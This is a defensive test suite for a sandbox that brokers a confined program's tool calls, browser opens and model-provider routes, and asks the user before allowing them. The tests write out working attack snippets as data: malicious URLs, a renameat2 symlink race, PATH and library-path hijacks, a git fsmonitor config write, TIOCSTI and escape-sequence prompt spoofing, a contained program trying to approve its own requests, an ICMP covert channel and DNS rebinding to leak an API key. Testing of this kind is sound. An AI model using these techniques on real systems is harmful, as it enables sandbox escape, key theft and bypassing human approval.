def test_tool_call_garbage_is_refused_and_the_broker_lives(
        lnk, outside_tool, raw, why):
    """Threat: hostile bytes on the broker's socket crash it or run
    something; the next honest call must still work."""
    cp = raw_py(lnk, f"""
        r = call("", "", [], raw={raw})
        print(r[:1].decode(), r[1:].decode())
        print(call("mytool", "/", ["honest"])[:1].decode())
    """, "--tool", "mytool *")
    lines = cp.stdout.splitlines()
    assert lines[0].startswith("R ") and why in lines[0], (cp.stdout,
                                                          cp.stderr)
    assert lines[-1] == "X", cp.stdout
    assert tool_calls(outside_tool) == ["args:honest"]


@pytest.mark.parametrize("name", ["../../../bin/sh", "/bin/sh", "sh",
                                  "mytool/../sh", ""])
def test_tool_call_cannot_name_another_program(lnk, outside_tool, name):
    """Threat: the call names a program by path, or a tool not granted,
    for the broker to run outside."""
    cp = raw_py(lnk, f"""
        r = call({name!r}, "/", ["-c", "echo pwned > {outside_tool}/pwned"])
        print(r[:1].decode(), r[1:].decode())
    """, "--tool", "mytool *")
    assert cp.stdout.startswith("R "), (cp.stdout, cp.stderr)
    assert not (outside_tool / "pwned").exists()
    assert tool_calls(outside_tool) == []


def test_tool_call_with_a_folder_as_stdin_is_refused(lnk, work,
                                                     outside_tool):
    """Threat: a descriptor of a folder handed to a tool that acts on its
    stdin outside."""
    cp = raw_py(lnk, f"""
        d = os.open({str(work)!r}, os.O_RDONLY | os.O_DIRECTORY)
        r = call("mytool", "/", ["x"], fds=(d, 1, 2))
        print(r[:1].decode(), r[1:].decode())
    """, "--write", work, "--tool", "mytool *")
    assert cp.stdout.startswith("R ") and "folder" in cp.stdout, cp.stdout
    assert tool_calls(outside_tool) == []


def test_tool_cwd_cannot_be_a_hidden_folder(lnk, home, work, outside_tool):
    """Threat: the call says its folder is one the program cannot see
    (lnk's settings, a --hide folder), for the tool to act in outside."""
    hidden = work / "secret"
    hidden.mkdir()
    (home / ".lnk").mkdir(exist_ok=True)
    for cwd in (hidden, home / ".lnk"):
        cp = raw_py(lnk, f"""
            r = call("mytool", {str(cwd)!r}, ["x"])
            print(r[:1].decode())
        """, "--write", work, "--hide", hidden, "--tool", "mytool *")
        assert cp.stdout.splitlines() == [f"cwd:{work}", "X"], \
            (cp.stdout, cp.stderr)
        assert f"mytool runs in '{work}'" in cp.stderr


def test_many_tool_calls_at_once_are_refused_and_end_cleanly(
        lnk, outside_tool):
    """Threat: connections held open without a call starve the broker or
    exhaust it; the surplus is refused, and once they go, calls work."""
    cp = raw_py(lnk, """
        held, refused = [], 0
        for _ in range(40):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
            s.connect("/run/lnk/tools.sock")
            held.append(s)
        for s in held[32:]:
            r = s.recv(4096)
            refused += r.startswith(b"R") and b"too many" in r
        for s in held:
            s.close()
        import time
        for _ in range(100):
            r = call("mytool", "/", ["after"])
            if r[:1] == b"X":
                break
            time.sleep(0.05)
        print(refused, r[:1].decode())
    """, "--tool", "mytool *")
    assert cp.stdout.splitlines()[-1] == "8 X", (cp.stdout, cp.stderr)
    assert tool_calls(outside_tool) == ["args:after"]


def test_program_cannot_answer_its_own_question(lnk, outside_tool):
    """Threat: while its call waits for the user, the program finds the
    question (its id, its file) and answers yes itself."""
    from test_terminal import read_until, spawn_on_pty, wait_status
    script = ("mytool issue close 1 & "
              "sleep 1; ls -a $HOME/.lnk /run/lnk 2>&1; "
              "for f in $HOME/.lnk/sandbox/asks/*.q /tmp/*.q; do "
              "echo yes > ${f%.q}.a; done 2>&1; wait; echo st=$?")
    pid, fd = spawn_on_pty(lnk, ["--write", lnk.cwd, "--tool", "mytool pr",
                                 "--", "/bin/sh", "-c", script])
    try:
        out = read_until(fd, b"(or no)")
        asks = json.loads(lnk("sandbox", "asks", "--json").stdout)
        out += read_until(fd, b"sleep-done", timeout=3)
        lnk("sandbox", "answer", asks[0]["id"], "no", check=True)
        out += read_until(fd, b"never", timeout=30)
    finally:
        wait_status(pid)
        os.close(fd)
    assert tool_calls(outside_tool) == [], out
    assert b"answered no" in out, out



def recording_opener(lnk, tmp_path):
    """An xdg-open outside that records each page it is asked to open, first
    on lnk's PATH, with a display: the file it writes to."""
    outdir = tmp_path / "openout"
    outdir.mkdir()
    outdir.chmod(0o777)
    rec = outdir / "opened"
    on_lnk_path(lnk, tmp_path / "openbin", "xdg-open",
                f"#!/bin/sh\necho \"$*\" >> {rec}\n", DISPLAY=":99")
    return rec

@pytest.mark.parametrize("url", [
    "file:///etc/passwd",
    "FILE:///etc/shadow",
    "javascript:alert(1)",
    "data:text/html,<script>x</script>",
    "https://good.example.org@evil.test/docs",
    "https://good.example.org.evil.test/docs",
    "https://evil.test/#https://good.example.org/docs",
    "https://evil.test/?https://good.example.org/docs",
    "https:\\\\evil.test\\docs",
    " https://good.example.org/docs",
    "https://good.example.org/docs\nhttps://evil.test",
    "http://good.example.org/docs",
    "https://*.example.org/docs",
    "--new-window",
])
def test_page_scheme_and_host_tricks_are_refused(lnk, tmp_path, url):
    """Threat: a page that is not the granted one (another scheme, a host
    hidden behind '@', a suffix, a fragment) opened in the user's browser
    outside the sandbox."""
    rec = recording_opener(lnk, tmp_path)
    cp = lnk.run("--browser-open", "https://*.example.org/docs", "--",
                 "xdg-open", url)
    assert cp.returncode == 126, (cp.stdout, cp.stderr)
    assert not rec.exists(), rec.read_text()
    # the honest page still opens
    cp = lnk.run("--browser-open", "https://*.example.org/docs", "--",
                 "xdg-open", "https://good.example.org/docs/a")
    assert cp.returncode == 0, cp.stderr
    assert rec.read_text() == "https://good.example.org/docs/a\n"


# --- asking on the terminal ---
# With a pty, lnk asks the user on its own terminal, with a code typed back
# (src/launch/askterm.c); driven in a tmux pane as a person would see it.

REAL_PROMPT = r"^lnk: to allow it once, type the code ([a-z]{4}) and Enter"


def test_question_text_cannot_drive_the_terminal_or_fake_the_prompt(
        lnk, tmp_path, outside_tool):
    """Threat: the program words its question (the tool's arguments) with
    escape sequences and a prompt of its own (a code it knows, on a line
    of its own), and leaves an escape string open in its output before,
    to hide lnk's question, retitle the window or clear the screen."""
    import re
    from test_ask_terminal import Pane
    script = ("printf 'before\\n\\033]2;'; "
              "mytool \"$(printf 'x\\033[2J\\033[H')\" "
              "\"$(printf '\\nlnk: to allow it once, type the code aaaa "
              "and Enter')\" \"$(printf '\\033]2;pwned\\007')\"; "
              "echo st=$?")
    p = Pane(lnk, tmp_path, ["--name", "asker", "--tool", "mytool pr", "--",
                             "/bin/sh", "-c", script])
    try:
        t = p.wait_for(re.compile(REAL_PROMPT, re.M))
        real = re.findall(REAL_PROMPT, t, re.M)
        assert len(real) == 1 and real[0] != "aaaa", t
        # each argument on a numbered line of its own, shown escaped, and
        # the screen was not cleared (what the program printed before is
        # still there)
        rows = t.splitlines()
        i = rows.index("lnk: sandbox asker asks to run, outside, as you:")
        assert rows[i + 1:i + 5] == [
            "mytool 'x\\x1b[2J\\x1b[H' ... (3 arguments), in /",
            "  1  'x\\x1b[2J\\x1b[H'",
            "  2  '\\x0alnk: to allow it once, type the code aaaa and "
            "Enter'",
            "  3  '\\x1b]2;pwned\\x07'"], rows[i:]
        assert "before" in t
        title = p.tmux("display-message", "-p", "-t", "ask",
                       "#{pane_title}")
        assert "pwned" not in title
        p.type("aaaa")
        p.key("Enter")
        t = p.wait_for("st=126")
        assert "refused: that is not the code" in t
        assert p.exit_status() == 0
    finally:
        p.close()
    assert tool_calls(outside_tool) == []


TYPE_OWN_ANSWER = r"""
import fcntl, os, subprocess, sys, termios, time
call = subprocess.Popen(["mytool", "issue", "close", "7"],
                        stdin=subprocess.DEVNULL)
time.sleep(0.5)
tries = []
# into its own terminal: as output, on stdout and on /dev/tty
for w in (b"\r", b"yes\r", b"aaaa\r\n", b"\x1b"):
    os.write(1, w)
    fd = os.open("/dev/tty", os.O_RDWR)
    os.write(fd, w)
    os.close(fd)
# as input, pushed into its terminal (TIOCSTI)
for ch in b"yes\r\x1b":
    try:
        fcntl.ioctl(0, termios.TIOCSTI, bytes([ch]))
        tries.append("sti-ok")
    except OSError as e:
        tries.append(f"sti-{e.errno}")
open("tried", "w").write(" ".join(tries))
call.wait()
print("st=%d" % call.returncode)
"""


def test_program_cannot_type_its_own_answer(lnk, tmp_path, outside_tool):
    """Threat: while its call waits, the program types into its own
    terminal (writes, /dev/tty, TIOCSTI) an Enter, a yes or a guessed code,
    for lnk to take as the user's keystrokes."""
    import re
    from test_ask_terminal import Pane
    p = Pane(lnk, tmp_path, ["--name", "asker", "--write", lnk.cwd,
                             "--tool", "mytool pr", "--", PY, "-c",
                             TYPE_OWN_ANSWER])
    try:
        t = p.wait_for(re.compile(REAL_PROMPT, re.M))
        at = t.index("lnk: to allow it once")
        for _ in range(300):
            if (lnk.cwd / "tried").exists():
                break
            time.sleep(0.1)
        tried = (lnk.cwd / "tried").read_text()
        assert "sti-ok" not in tried, tried
        # the question is still up, unanswered: nothing the program did
        # was a keystroke of lnk's
        t = p.text()
        assert "(question " not in t[at:], t
        assert json.loads(lnk("sandbox", "asks", "--json").stdout) != []
        assert tool_calls(outside_tool) == []
        p.key("Escape")
        t = p.wait_for("st=126")
        assert "lnk: refused (question " in t
        assert p.exit_status() == 0
    finally:
        p.close()
    assert tool_calls(outside_tool) == []


# --- asking on the desktop ---
# A question is shown on the desktop's session bus (a notification with
# Allow and Deny); the program must not press Allow itself.

BUS_TRIES = """
import os, socket, subprocess, sys
addr = os.environ.get("DBUS_SESSION_BUS_ADDRESS")
print("address:", addr)
for path in [sys.argv[1], os.environ.get("XDG_RUNTIME_DIR", "/x") + "/bus"]:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect(path)
        s.sendall(b"\\0AUTH EXTERNAL 30\\r\\n")
        print("reached", path, s.recv(100))
    except OSError as e:
        print("unreachable", path, e.errno)
cp = subprocess.run(["mytool", "issue", "close", "1"])
print("st=%d" % cp.returncode)
"""


@pytest.mark.parametrize("granted", [False, True])
def test_program_cannot_reach_the_session_bus_to_answer_itself(
        lnk, outside_tool, tmp_path, granted):
    """Threat: the program answers its own question on the desktop: it
    finds the session bus lnk shows the question on (its address in the
    environment, its socket in the file system) and invokes the Allow
    action, or talks to the notification server. Also when the user
    passes the address in and grants the bus's folder: the socket is
    bound outside, so the guard refuses the connect."""
    from test_ask_desktop import Desktop, _missing
    why = _missing()
    if why:
        pytest.skip(why)
    desk = Desktop(tmp_path / "desktop")
    try:
        desk.server(act="none")
        base = lnk.env
        # the runtime folder is never granted (lnk refuses it): the
        # granted case has the bus in a folder of its own
        run = {} if granted else {"XDG_RUNTIME_DIR": str(desk.run)}
        lnk.env = lambda extra=None: {**base(extra), **desk.env, **run}
        d = lnk.home / ".lnk" / "sandbox"
        d.mkdir(parents=True, exist_ok=True)
        (d / "settings.toml").write_text("ask_wait = 2\n")
        grants = ("--read", str(desk.run), "--env",
                  "DBUS_SESSION_BUS_ADDRESS") if granted else ()
        cp = lnk.run("--tool", "mytool pr", *grants, "--", PY, "-c",
                     BUS_TRIES, str(desk.run / "bus"), timeout=60)
        out = cp.stdout
        assert "reached" not in out, out
        assert out.count("unreachable") == 2, (out, cp.stderr)
        if not granted:
            assert "address: None" in out, out
        assert "st=126" in out, (out, cp.stderr)
        # the question was shown, and only the server's own signals answer
        assert len(desk.rows("Notify")) == 1
        assert desk.rows("invoked") == []
        assert tool_calls(outside_tool) == []
    finally:
        desk.stop()


# --- attacks on tools, pages, models, the transparent path ---
# A tool runs outside, as the user: whatever decides what it executes (its
# file, its interpreter, the folders of its PATH) must be out of the
# program's reach. A page opens in the user's browser: only a granted one.


def _tool_on_path(lnk, tmp_path, text, name="mytool"):
    """NAME on lnk's PATH only (a folder outside every grant), with TEXT."""
    return on_lnk_path(lnk, tmp_path / "toolbin2", name, text)


@pytest.mark.parametrize("how", ["link", "interpreter", "bind"])
def test_tool_the_program_can_rewrite_is_refused(lnk, work, tmp_path, how):
    """Threat: the tool's real file (a PATH entry's link into the project,
    `ln -s ~/code/app/bin/deploy ~/bin/`) or its script's interpreter
    (`#!/home/u/code/app/.venv/bin/python`) lies in a write folder: the
    program rewrites it and calls the tool, and its own code runs outside,
    as the user. Such a tool stops the start."""
    marker = tmp_path / "pwned"
    evil = f"#!/bin/sh\necho pwned > {marker}\n"
    inside = work / "tools"
    inside.mkdir()
    if how == "link":
        real = inside / "mytool"
        real.write_text("#!/bin/sh\necho honest\n")
        real.chmod(0o755)
        bindir = tmp_path / "toolbin2"
        bindir.mkdir()
        (bindir / "mytool").symlink_to(real)
        bindir.chmod(0o755)
        base = lnk.env
        lnk.env = lambda extra=None: {
            **base(extra), "PATH": f"{bindir}:{base(extra)['PATH']}"}
        target = real
    elif how == "interpreter":
        interp = inside / "interp"
        interp.write_text("#!/bin/sh\nexec /bin/sh \"$@\"\n")
        interp.chmod(0o755)
        _tool_on_path(lnk, tmp_path, f"#!{interp}\necho honest\n")
        target = interp
    else:
        # the same folder at another path: a bind mount of the project
        if not IS_ROOT:
            pytest.skip("a bind mount needs root")
        real = inside / "mytool"
        real.write_text("#!/bin/sh\necho honest\n")
        real.chmod(0o755)
        bound = tmp_path / "toolbin2"
        bound.mkdir()
        subprocess.run(["mount", "--bind", str(work), str(bound)],
                       check=True)
        bindir = bound / "tools"
        base = lnk.env
        lnk.env = lambda extra=None: {
            **base(extra), "PATH": f"{bindir}:{base(extra)['PATH']}"}
        target = real
    try:
        cp = sh(lnk, f"printf '{evil}' > {target}; chmod +x {target}; "
                "mytool hi", "--write", work, "--tool", "mytool *")
    finally:
        if how == "bind":
            subprocess.run(["umount", str(tmp_path / "toolbin2")])
    assert not marker.exists(), (cp.stdout, cp.stderr)
    assert cp.returncode == 2, (cp.returncode, cp.stdout, cp.stderr)
    assert "write folder" in cp.stderr, cp.stderr


def test_tool_path_has_no_folder_the_program_writes(lnk, work, tmp_path):
    """Threat: lnk's PATH holds '.' or an empty entry (the current folder);
    a tool runs with lnk's environment in the program's folder, so a
    command the tool runs by name (`ls`, `git`) is the program's file
    there, run outside. The tool's PATH keeps only absolute folders."""
    marker = tmp_path / "pwned"
    _tool_on_path(lnk, tmp_path, "#!/bin/sh\nls >/dev/null 2>&1\n"
                  "echo \"PATH=$PATH\"\n")
    base = lnk.env
    for path in (".:{}", ":{}", "{}:", "bin:{}"):
        lnk.env = lambda extra=None, p=path: {
            **base(extra), "PATH": p.format(base(extra)["PATH"])}
        cp = sh(lnk, f"mkdir -p bin; for f in ls bin/ls; do "
                f"printf '#!/bin/sh\\necho pwned > {marker}\\n' > $f; "
                "chmod +x $f; done; mytool", "--write", work,
                "--tool", "mytool *")
        assert not marker.exists(), (path, cp.stdout, cp.stderr)
        assert cp.returncode == 0, (path, cp.stdout, cp.stderr)
        entries = cp.stdout.strip().split("=", 1)[1].split(":")
        assert all(e.startswith("/") for e in entries), cp.stdout


@pytest.mark.parametrize("url", [
    "https://good.example.org/docs/../admin",
    "https://good.example.org/docs/./../admin",
    "https://good.example.org/docs/a/../../admin",
    "https://good.example.org/docs/%2e%2e/admin",
    "https://good.example.org/docs/.%2E/admin",
    "https://good.example.org/docs/%2E./admin",
    "https://good.example.org/docs/..",
    "https://good.example.org/docs\\..\\admin",
    "https://good.example.org/docs/..\\admin",
    "https://good.example.org/docs/..%2Fadmin",
    "https://good.example.org/docs%2f..%2fadmin",
    "https://good.example.org/docs/a%5C..%5Cadmin",
])
def test_page_dot_segments_cannot_leave_the_granted_path(lnk, tmp_path,
                                                         url):
    """Threat: the grant is a path prefix (https://*.example.org/docs); a
    browser resolves '..' (also %2e%2e, and '\\' as '/') before it asks the
    server, and a server such as nginx decodes %2F before it resolves, so
    docs/../admin or docs/..%2Fadmin opens a page the grant does not
    name."""
    rec = recording_opener(lnk, tmp_path)
    cp = lnk.run("--browser-open", "https://*.example.org/docs", "--",
                 "xdg-open", url)
    assert cp.returncode == 126, (cp.stdout, cp.stderr)
    assert not rec.exists(), rec.read_text()
    # a dot inside a name, and a query holding '..', still open
    for ok in ("https://good.example.org/docs/v1.2/a..b",
               "https://good.example.org/docs/a?p=../x"):
        cp = lnk.run("--browser-open", "https://*.example.org/docs", "--",
                     "xdg-open", ok)
        assert cp.returncode == 0, (ok, cp.stderr)
    assert rec.read_text().splitlines() == [
        "https://good.example.org/docs/v1.2/a..b",
        "https://good.example.org/docs/a?p=../x"]


def test_tool_cwd_swapped_for_a_link_never_leaves_the_grants(lnk, work,
                                                            tmp_path):
    """Threat: the call's folder is checked, then entered; between the two
    the program swaps a folder on its path for a link to one outside every
    grant (renameat2 RENAME_EXCHANGE, atomic), and the tool acts there, as
    the user. Unfixed, some tens of 1000 calls won the race."""
    deep = "/".join(f"x{i}" for i in range(40))
    outside = tmp_path / "outside"
    (outside / deep).mkdir(parents=True)
    _tool_on_path(lnk, tmp_path, "#!/bin/sh\npwd -P\n")
    cp = py(lnk, f"""
        import array, ctypes, os, socket, struct, threading
        os.makedirs("d/{deep}")
        os.symlink({str(outside)!r}, "dl")
        libc = ctypes.CDLL(None, use_errno=True)
        stop = False
        def swap():
            while not stop:
                libc.renameat2(-100, b"d", -100, b"dl", 2)
        t = threading.Thread(target=swap)
        t.start()
        r, w = os.pipe()
        os.set_blocking(r, False)
        msg = (b"LNKC" + struct.pack("<II", 1, 2) + b"mytool\\0"
               + os.getcwd().encode() + b"/d/{deep}\\0")
        ran, out = 0, b""
        for _ in range(1000):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
            s.connect("/run/lnk/tools.sock")
            s.sendmsg([msg], [(socket.SOL_SOCKET, socket.SCM_RIGHTS,
                               array.array("i", [0, w, w]))])
            # run, or refused (a folder inside the write folder is no
            # tool's): either way answered, never run outside the grants
            ran += s.recv(64)[:1] in (b"X", b"R")
            s.close()
            try:
                out += os.read(r, 1 << 16)
            except BlockingIOError:
                pass
        stop = True
        t.join()
        print(ran)
        print(out.decode())
    """, "--write", work, "--tool", "mytool *", timeout=180)
    assert cp.returncode == 0, cp.stderr
    lines = cp.stdout.splitlines()
    assert int(lines[0]) > 900, cp.stdout[-2000:]
    assert not [x for x in lines if x.startswith(str(outside))], \
        [x for x in lines if x.startswith(str(outside))][:5]


@pytest.mark.parametrize("var,plant,tool", [
    ("PYTHONPATH", "json.py",
     "#!/usr/bin/python3\nimport json\nprint('tool ok')\n"),
    ("LD_LIBRARY_PATH", "libc.so.6", "#!/bin/sh\necho tool ok\n"),
])
def test_tool_search_paths_have_no_folder_the_program_writes(
        lnk, work, tmp_path, var, plant, tool):
    """Threat: `export LD_LIBRARY_PATH=$LD_LIBRARY_PATH:/opt/lib` left an
    empty first entry in the user's shell, which the loader (and Python,
    for PYTHONPATH) reads as the current folder; the tool runs there, in
    the program's folder, and loads the program's libc.so.6 or json.py
    outside, as the user."""
    marker = tmp_path / "pwned"
    _tool_on_path(lnk, tmp_path, tool)
    base = lnk.env
    lnk.env = lambda extra=None: {**base(extra), var: ":/nonexistent"}
    code = (f"open({str(marker)!r}, 'w').write('x')\n"
            if plant.endswith(".py") else "not a library\n")
    (tmp_path / "plant").write_text(code)
    cp = sh(lnk, f"cp {tmp_path}/plant {plant}; mytool", "--write", work,
            "--read", tmp_path / "plant", "--tool", "mytool *")
    assert not marker.exists(), (cp.stdout, cp.stderr)
    assert cp.returncode == 0 and cp.stdout == "tool ok\n", \
        (cp.returncode, cp.stdout, cp.stderr)


def test_question_shows_the_exact_call(lnk, outside_tool):
    """Threat: the user answers for the call the question shows. The
    program asks with arguments that read as others: one argument holding
    spaces shown as several words, or an argument padded so long that the
    ones after it (a --delete) fall off the question unsaid."""
    from test_terminal import read_until, spawn_on_pty, wait_status
    pad = "x" * 6000
    script = ("mytool issue 'close 7 --comment ok' & "
              f"mytool issue view {pad} --delete & wait; echo never")
    pid, fd = spawn_on_pty(lnk, ["--write", lnk.cwd, "--tool", "mytool pr",
                                 "--ask-wait", "20", "--", "/bin/sh", "-c",
                                 script])
    try:
        out = read_until(fd, b"(or no)")
        for _ in range(100):
            asks = json.loads(lnk("sandbox", "asks", "--json").stdout)
            if len(asks) == 2:
                break
            time.sleep(0.1)
        for a in asks:
            lnk("sandbox", "answer", a["id"], "no")
        out += read_until(fd, b"never", timeout=30)
    finally:
        wait_status(pid)
        os.close(fd)
    qs = sorted((a["lines"] for a in asks), key=lambda x: x[0])
    assert len(qs) == 2, (qs, out)
    # each argument one shell word on its own numbered line
    assert qs[0] == [f"mytool issue ... (2 arguments), in {lnk.cwd}",
                     "  1  issue", "  2  'close 7 --comment ok'"], qs
    # the padded argument cut, with its length; the one after it shown
    assert qs[1][:3] == [f"mytool issue ... (4 arguments), in {lnk.cwd}",
                         "  1  issue", "  2  view"], qs
    assert qs[1][3].startswith("  3  xxxx"), qs
    assert qs[1][3].endswith("... (6000 bytes in all)"), qs
    assert qs[1][4:] == ["  4  --delete"], qs
    assert tool_calls(outside_tool) == []


def test_tool_reopening_its_stdout_cannot_write_what_is_read_only(
        lnk, work, tmp_path):
    """Threat: the program hands a tool, as stdout and stderr, a file it
    may only read (a dot file at the top of its write folder, a --read
    file), opened read only; the tool, outside, writes to /dev/stdout or
    /dev/stderr (as many scripts' error paths do), which opens the file
    anew through /proc/self/fd, for writing, with the user's rights."""
    (work / ".git").mkdir()
    cfg = work / ".git" / "config"
    cfg.write_text("[core]\n")
    ro = tmp_path / "ro"
    ro.mkdir()
    (ro / "f").write_text("mine\n")
    _tool_on_path(lnk, tmp_path, "#!/bin/sh\n"
                  "echo '[core] fsmonitor = evil' > /dev/stdout\n"
                  "echo '[core] fsmonitor = evil' >> /dev/stderr\n")
    cp = raw_py(lnk, f"""
        for p in (".git/config", {str(ro / "f")!r}):
            fd = os.open(p, os.O_RDONLY)
            r = call("mytool", os.getcwd(), [], fds=(0, fd, fd))
            print(p, r[:1].decode())
    """, "--write", work, "--read", ro, "--tool", "mytool *")
    assert cfg.read_text() == "[core]\n", (cp.stdout, cp.stderr)
    assert (ro / "f").read_text() == "mine\n", (cp.stdout, cp.stderr)
    assert cp.returncode == 0, cp.stderr


def test_tool_call_with_an_o_path_descriptor_is_refused(lnk, work,
                                                        tmp_path):
    """Threat: an O_PATH handle (to a file the program may not open, or
    to a folder) handed to a tool as stdin, for the tool to open anew
    outside through /proc/self/fd with the user's rights."""
    marker = tmp_path / "ran"
    _tool_on_path(lnk, tmp_path, f"#!/bin/sh\ntouch {marker}\n")
    cp = raw_py(lnk, f"""
        for p in ("/etc/passwd", {str(work)!r}):
            fd = os.open(p, os.O_PATH)
            r = call("mytool", "/", [], fds=(fd, 1, 2))
            print(r[:1].decode(), r[1:].decode())
    """, "--write", work, "--tool", "mytool *")
    lines = cp.stdout.splitlines()
    assert len(lines) == 2 and all(x.startswith("R ") for x in lines), \
        (cp.stdout, cp.stderr)
    assert not marker.exists()


def test_icmp_echo_never_leaves_the_sandbox(lnk):
    """Threat: an unprivileged ICMP echo socket (no raw socket needed)
    pings this machine or the test network, a channel out that no proxy
    sees, or a scan of the network's hosts."""
    f = nethosts()
    cp, _ = tp_net(lnk, f"""
        for fam, proto, dst in (
                (socket.AF_INET, socket.IPPROTO_ICMP, "{f['HOST_SIDE_IP']}"),
                (socket.AF_INET, socket.IPPROTO_ICMP, "{f['ORIGIN_IP']}"),
                (socket.AF_INET6, socket.IPPROTO_ICMPV6, "::1")):
            try:
                s = socket.socket(fam, socket.SOCK_DGRAM, proto)
                s.settimeout(2)
                echo = b"\\x08" if fam == socket.AF_INET else b"\\x80"
                s.sendto(echo + b"\\x00\\x00\\x00\\x12\\x34\\x00\\x01",
                         (dst, 0))
                s.recv(64)
                print(dst, "ANSWERED")
            except OSError as e:
                print(dst, "no", e.errno)
    """, "--internet-host", "*")
    assert cp.returncode == 0, cp.stderr
    assert "ANSWERED" not in cp.stdout, cp.stdout
    assert cp.stdout.count(" no ") == 3, cp.stdout


def test_model_provider_not_reached_without_proxy_settings(lnk, work):
    """Threat: the route's provider is granted only as the route; a
    program that ignores the proxy variables connects to the provider's
    address itself (the transparent path), with TLS of its own the wire
    cannot read: calls no route sees or counts."""
    f, tm = _model_net()
    cp = py(lnk, f"""
        import socket
        for dst in (("{f['ORIGIN_IP']}", 8443), ("origin.lnk-test", 8443)):
            try:
                socket.create_connection(dst, timeout=5)
                print("CONNECTED", dst)
            except OSError as e:
                print("no", e.errno)
    """, "--model", tm.CUSTOM, env=_model_env(f, tm.secret()))
    assert "CONNECTED" not in cp.stdout, cp.stdout
    assert cp.stdout.count("no ") == 2, (cp.stdout, cp.stderr)
    rows = [json.loads(l) for l in lnk("sandbox", "log", "--json",
                                       check=True).stdout.splitlines()]
    assert any(r["outcome"] == "refused" and
               r["target"] == f"{f['ORIGIN_IP']}:8443" for r in rows), rows


@pytest.mark.parametrize("pipe", ["closed", "full"])
def test_tool_stderr_pipe_cannot_stop_the_broker(lnk, work, tmp_path,
                                                 pipe):
    """Threat: the broker writes a note ("runs in ...") to the call's
    stderr itself. Given a pipe whose reader is gone, the write's SIGPIPE
    killed the broker: tools then outlived the sandbox and no call was
    served. Given a full pipe nobody reads, the write blocked the broker
    for good: no call served, no tool ended, and lnk waits on it."""
    _tool_on_path(lnk, tmp_path, "#!/bin/sh\necho \"ran $*\"\n")
    cp = raw_py(lnk, f"""
        r, w = os.pipe()
        if {pipe!r} == "closed":
            os.close(r)
        else:
            os.set_blocking(w, False)
            try:
                while True:
                    os.write(w, b"x" * 4096)
            except BlockingIOError:
                pass
            os.set_blocking(w, True)
        s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        s.connect("/run/lnk/tools.sock")
        msg = (b"LNKC" + struct.pack("<II", 1, 3) + b"mytool\\0/\\0first\\0")
        s.sendmsg([msg], [(socket.SOL_SOCKET, socket.SCM_RIGHTS,
                           array.array("i", [0, 1, w]))])
        import signal
        signal.alarm(20)
        print("second", call("mytool", os.getcwd(), ["second"])[:1])
        print("done")
        os._exit(0)
    """, "--write", work, "--tool", "mytool *")
    assert "second b'X'" in cp.stdout, (cp.stdout, cp.stderr)
    assert "ran second" in cp.stdout, (cp.stdout, cp.stderr)


@pytest.mark.parametrize("host", ["rebind.lnk-test", "mixed.lnk-test",
                                  "127.0.0.1"])
def test_model_route_never_sends_the_key_to_this_machine(lnk, work, host):
    """Threat: a spec's route names a provider whose name resolves to this
    machine (DNS rebinding, an answer holding loopback among others) or
    is loopback itself: the wire would hand the user's key to whatever
    listens there, outside the sandbox. A listener here must see nothing."""
    f = nethosts()
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    srv.settimeout(0.5)
    port = srv.getsockname()[1]
    route = f"fake=https://{host}:{port}/v1"
    try:
        cp = lnk.run("--model", route, "--", "sh", "-c",
                     "curl -s -o /dev/null -w '%{http_code}\\n' "
                     "\"$LNK_MODEL_FAKE_URL/chat/completions\" -d '{}'",
                     env={"LNK_DNS_SERVER": f["LNK_DNS_SERVER"],
                          "FAKE_API_KEY": "sk-test-never"}, timeout=60)
        try:
            c, _ = srv.accept()
            c.close()
            reached = True
        except OSError:
            reached = False
    finally:
        srv.close()
    assert not reached, (cp.stdout, cp.stderr)
    assert cp.stdout.split() in (["403"], ["502"]), (cp.stdout, cp.stderr)


# --- leftovers: hard-linked tools and their loader ---
# A tool runs outside, as the user (or root). Its file, its interpreter and
# the folders its loader searches must be out of the program's reach: a
# second name (a hard link) of the file inside a write folder, or an ELF's
# RPATH/RUNPATH or loader there, is the same as the file being there.

EVIL_TOOL = "#!/bin/sh\necho pwned > {marker}\n"


def _cc(tmp_path, src, out, *args):
    """Compiles SRC (C text) to OUT with the host's cc; skips without one."""
    cc = shutil.which("cc")
    if not cc:
        pytest.skip("no C compiler on this machine to build the ELF file")
    c = tmp_path / (out.name + ".c")
    c.write_text(src)
    subprocess.run([cc, "-o", str(out), str(c), *args], check=True)
    out.chmod(0o755)
    return out


@pytest.mark.parametrize("what", ["tool", "interpreter", "env"])
def test_tool_hard_linked_into_a_write_folder_is_refused(lnk, work, tmp_path,
                                                         what):
    """Threat: the tool's file, or its script's interpreter, has a second
    name (a hard link: `ln`, `cp -al`, perf's ~/.debug, a package store) in
    a write folder; the program writes the file through that name and calls
    the tool, and its own code runs outside. Such a tool stops the start."""
    marker = tmp_path / "pwned"
    inside = work / "tools"
    inside.mkdir()
    if what == "tool":
        prog = _tool_on_path(lnk, tmp_path, "#!/bin/sh\necho honest\n")
        os.link(prog, inside / "mytool")
        target = inside / "mytool"
    else:
        # the interpreter named, or found on PATH by #!/usr/bin/env
        ibin = tmp_path / "interpbin"
        ibin.mkdir()
        interp = ibin / "interp"
        interp.write_text("#!/bin/sh\nexec /bin/sh \"$@\"\n")
        interp.chmod(0o755)
        ibin.chmod(0o755)
        os.link(interp, inside / "interp")
        _tool_on_path(lnk, tmp_path, f"#!{interp}\necho honest\n"
                      if what == "interpreter" else
                      "#!/usr/bin/env interp\necho honest\n")
        if what == "env":
            base = lnk.env
            lnk.env = lambda extra=None: {
                **base(extra), "PATH": f"{base(extra)['PATH']}:{ibin}"}
        target = inside / "interp"
    cp = sh(lnk, f"printf '{EVIL_TOOL.format(marker=marker)}' > {target}; "
            "mytool hi", "--write", work, "--tool", "mytool *")
    assert not marker.exists(), (cp.stdout, cp.stderr)
    assert cp.returncode == 2, (cp.returncode, cp.stdout, cp.stderr)
    assert "hard link" in cp.stderr and str(target) in cp.stderr, cp.stderr


def test_tool_hard_linked_outside_every_write_folder_runs(lnk, work,
                                                          tmp_path):
    """The rule is precise: a tool whose other names are all outside the
    write folders (perl and perl5.36.0 in /usr/bin) runs."""
    prog = _tool_on_path(lnk, tmp_path, "#!/bin/sh\necho honest\n")
    os.link(prog, prog.parent / "mytool-1.0")
    (tmp_path / "elsewhere").mkdir()
